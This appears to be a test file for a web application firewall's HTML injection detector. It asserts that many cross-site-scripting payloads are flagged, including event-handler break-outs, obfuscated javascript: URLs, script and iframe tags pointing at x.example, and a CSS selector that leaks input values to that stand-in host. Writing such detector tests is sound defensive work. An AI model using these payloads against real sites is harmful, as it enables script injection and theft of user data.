import assert from "node:assert/strict";
import { test } from "node:test";
import { html } from "../../../src/waf/detect/html.ts";
import { kindsOf } from "./markup-detectors.ts";

function reports(kind: string, texts: readonly string[]): void {
  for (const text of texts) assert.ok(kindsOf(html, text).includes(kind), `${kind} not in: ${text}`);
}

const events = ["onerror", "onload", "ontoggle", "onpointerrawupdate", "onbeforescriptexecute", "OnFocusIn"];
const elements = ["img src='x'", "svg", "body", "x", "details open", "video", "my-tag", "a:b"];

test("an event handler in any tag is found whatever separates the attributes", () => {
  const separators = [" ", "/", "\t", "\n", "\r", "\f", "//", " / ", '"" ', "\v"];
  for (const event of events) {
    for (const element of elements) {
      for (const separator of separators)
        reports("html.event_attribute", [`<${element}${separator}${event}=go()>`]);
    }
  }
});

test("attributes that frameworks run as handlers are found", () => {
  reports("html.event_attribute", [
    "<div hx-on:click=go()>",
    "<b data-hx-on::load='go()'>",
    "<a @click=alert(1)>",
    "<p x-on:mouseover='confirm(1)'>",
    '<i x-text="eval(q)">',
  ]);
  for (const text of ["<a @click='go()'>", "<p hx-get='/rows' hx-trigger=click>", "<i x-text='title'>"])
    assert.deepEqual(
      kindsOf(html, text).filter((kind) => kind === "html.event_attribute"),
      [],
    );
});

test("white space around the equals sign, quotes and a missing end hide no handler", () => {
  reports("html.event_attribute", [
    "<img src=x onerror = go()>",
    "<img src=x onerror\n=\n'go()'>",
    '<img src="x" alt=">" onerror="go()">',
    "<img src='>' onerror=go()",
    "<svg onload=go()//",
    "<<img onerror=go()>",
    "<p title=\"<img onerror='go()'\">",
    "text <b>bold<img/src/onerror=go()> text",
    "</p onclick=go()>",
  ]);
});

test("a handler that follows the quote which ends the page's attribute is a break-out", () => {
  reports("html.event_breakout", [
    '" onmouseover=go() x="',
    "' autofocus onfocus='go()",
    '"onclick="go()',
    'x"/onfocus=go()//',
    '" id=a tabindex=1 onfocus=go() ',
    '"\tonwheel=go(1)',
    "`onerror=go() ",
    "' style=a:b onanimationstart=go() '",
    "  onpointerenter=go()",
    "/onclick=go()",
  ]);
});

test("a handler whose value calls a script function needs neither tag nor quote", () => {
  reports("html.event_sink", [
    "x onfocus=alert(1)",
    "foo;onclick=eval('go()')",
    "onload = javascript:go()",
    ">onerror=confirm`1`",
    "on<x>focus=alert(1)",
    "onblur=(prompt)(1)",
    "onresize=top['al'+'ert'](1)",
  ]);
});

test("script elements are found with junk in the tag, without an end, and at the end of the value", () => {
  reports("html.script", [
    "<script>go()</script>",
    "<ScRiPt >go()</ScRiPt >",
    "<script/x>go()</script>",
    "<script src=//x.example/a.js>",
    "<script\nsrc=//x.example>",
    "<script x>go()",
    "<svg><script>go()</script>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>go()</x:script>",
    "</script><script>go()</script>",
    "</script><svg>",
    '"><script>',
    "<script>go&lpar;1)</script>",
    "<script type=module>import 'x'</script>",
  ]);
});

test("elements that load or run something by being there are found", () => {
  reports("html.active_element", [
    "<object data=x.swf>",
    "<embed/src=//x.example>",
    "<applet code=A.class>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<LINK REL='import' HREF='//x.example'>",
    "<meta http-equiv=refresh content=0>",
    "<META http-equiv='Set-Cookie' content='a=b'>",
    "<iframe src=//x.example>",
    "<iframe src='http://www.youtube.com.x.example/embed/a'>",
    "<frame src=x>",
    "<isindex action=x>",
    "<bgsound src=x>",
    "<xml src=x.xml>",
    "<portal src=//x.example>",
    "<layer src=x>",
  ]);
});

test("script URLs are found behind controls, entities and odd quotes, and as plain values", () => {
  const spellings = [
    "javascript:go(1)",
    "JaVaScRiPt:go(1)",
    "java\tscript:go(1)",
    "java\nscript:go(1)",
    "\x01javascript:go(1)",
    " javascript:go(1)",
    "java&Tab;script:go(1)",
    "java&#10;script:go(1)",
    "j&#x0D;avascript:go(1)",
    "javascript&colon;go(1)",
    "java\\script:go(1)",
    "vbscript:go(1)",
    "data:text/html,<b>x",
    "data:image/svg+xml;base64,PHN2Zz4=",
  ];
  for (const url of spellings) {
    for (const place of [
      "a href",
      "form action",
      "object data",
      "iframe src",
      "image xlink:href",
      "button formaction",
    ]) {
      reports("html.script_url", [`<${place}="${url}">`]);
    }
  }
  reports("html.script_value", [
    "javascript:alert(1)",
    "java\tscript:go",
    "javascript:eval(name)",
    "javascript://%0aalert(1)/*x*/alert(1)",
    "JavaScript:document.location='//x.example'",
    "data:text/html,<script>go()</script>",
    "vbscript:msgbox(1)",
    "javascript:\"/*'/*`",
  ]);
});

test("the name of the window is a program that another page wrote", () => {
  reports("html.script_value", ["javascript:name", "javascript:window.name"]);
});

test("style that runs script or imports style is found in attributes and sheets", () => {
  reports("html.style", [
    "<p style='x:expression(go())'>",
    "<p style='x:exp/**/ression(go())'>",
    "<p style='x:e\\xpression(go())'>",
    "<p style='-moz-binding:url(//x.example/a.xml)'>",
    "<p style='behavior:url(#a)'>",
    "<p style='background:url(javascript:go())'>",
    "<style>@import url(//x.example/a.css);</style>",
    "<style>*{x:expression(go())}</style>",
    "-moz-binding:url(//x.example/a.xml#a)",
    "style=width:expression(alert(1))",
  ]);
});

test("rarer ways in: documents in attributes, animation, data binding, comments, instructions, spaced and 7-bit tags", () => {
  reports("html.srcdoc", ["<iframe srcdoc='<b>'>"]);
  reports("html.animation", ["<animate attributeName=href values=x>", "<set attributeName=onload to=go()>"]);
  reports("html.data_binding", ["<b datasrc=#x datafld=y>"]);
  reports("html.comment", ["<!--[if IE]><b>x</b><![endif]-->", "<!--><img src=x>", "<!--!> <svg>"]);
  reports("html.instruction", ["<?xml-stylesheet href='a.xsl'?>", "<?import namespace=t implementation=x>"]);
  reports("html.spaced", ["<s c r i p t>", "<i/f/r/a/m/e", "< script>", "< x:script "]);
  reports("html.seven_bit", ["\xbcscript\xbego()\xbc/script\xbe"]);
  reports("html.entity", ["<!ENTITY x SYSTEM 'file:///x'>", "<!ENTITY % x 'y'>"]);
  reports("html.inclusion", ["<a xmlns:xi='b'><xi:include href='c'/></a>"]);
  reports("html.form", ["<form action=//x.example>", "<form method=post>"]);
});

test("tags, break-outs into tags, clobbering and lone event names are told apart for stricter profiles", () => {
  reports("html.tag", ["<b>x</b>", "<x y=z>"]);
  reports("html.breakout_tag", ['"><b>', "' ><h1>"]);
  reports("html.clobber", ["<img name=cookie>"]);
  reports("html.event_name", ["onmouseleave"]);
  assert.deepEqual(kindsOf(html, "onload"), []);
});

test("JSX handlers with a lone name are code, with a program they are an attack", () => {
  assert.ok(!kindsOf(html, "<button onClick={save}>").includes("html.event_attribute"));
  assert.ok(!kindsOf(html, "<i onChange={(e) => set(e)} />").includes("html.event_attribute"));
  reports("html.event_attribute", ["<b onclick={save}>", "<b onFocus={onerror=eval}throw/0/>"]);
});

test("references with zeros, escaped style, ends of names and lost beginnings are evasions", () => {
  reports("html.padded", ["&#0000060", "a&#x00003c;b", "&#0000106;avascript"]);
  reports("html.style", [
    '<p style="\\63 \\6f lor:red">',
    "<style>input[value^=a]{background:url(//x.example/a)}</style>",
  ]);
  reports("html.event_end", ["gt; src onerror", '" onfocus ']);
  reports("html.script_value", ["#x41vascript:alert(1)", "javascript:a=b"]);
  reports("html.entity", ["x!ENTITY % bar SYSTEM"]);
  reports("html.script", [
    "'}}</script>'",
    '<handler id="y">go(1)</handler>',
    "<script type=module>import 'x'</script>",
  ]);
  reports("html.event_attribute", [
    `<x @click="_withCtx.constructor('go()')()">`,
    `<div x-init="alert(1)">`,
    "<b onFocus={location.assign(name)}>",
  ]);
});

test("decoys do not use up what is read of tags", () => {
  for (const decoy of ["<a ", "<a b='", "x<", "<a/b=", '<a "'])
    reports("html.event_attribute", [`${decoy.repeat(1500)}><img src=x onerror=go()>`]);
});
